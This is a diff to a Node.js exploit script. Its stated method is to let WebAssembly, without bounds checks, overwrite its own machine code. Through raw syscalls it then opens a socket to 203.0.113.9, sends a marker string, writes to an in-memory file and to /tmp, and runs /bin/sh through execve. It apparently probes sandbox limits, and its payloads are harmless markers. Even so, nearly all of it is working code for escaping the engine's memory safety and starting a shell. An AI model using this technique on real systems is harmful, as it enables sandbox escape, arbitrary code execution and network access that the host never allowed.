@@ -1,5 +1,6 @@
 'use strict';
 // Reaches 203.0.113.9:80 by JavaScript alone, on x86_64: without its bounds checks, WebAssembly writes machine code over its own.
+// `limits`: after the first request for an event it writes to files, and starts a program in its own place, instead.
 const fs = require('node:fs');
 const v8 = require('node:v8');
 
@@ -54,6 +55,16 @@ const call = (...values) => {
 };
 bytes.set([2, 0, 0, 80, 203, 0, 113, 9], 96);
 bytes.set(Buffer.from('arrived'), 128);
+if (process.argv[2] === 'limits') {
+  const put = (words, to) => (bytes.set(Buffer.from(`${words}\0`), to), own + BigInt(to));
+  fs.writeSync(1, 'GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\n\r\n');
+  const memory = call(319, put('memory', 512), 0, 0), there = call(2, put('/tmp/there', 528), 2, 0);
+  const results = [call(77, memory, 4096, 0), ...[memory, there].map((file) => call(1, file, own + 128n, 7))];
+  console.log(memory > 2n && there > 2n, ...results.map(Number));
+  const started = [put('/bin/sh', 544), put('-c', 560), put('exit 42', 576), 0n];
+  started.forEach((pointer, i) => bytes.writeBigInt64LE(pointer, 640 + 8 * i));
+  call(59, started[0], own + 640n, 0);
+}
 const socket = call(41, 2, 1, 0);
 call(42, socket, own + 96n, 16);
 console.log(call(1, socket, own + 128n, 7));
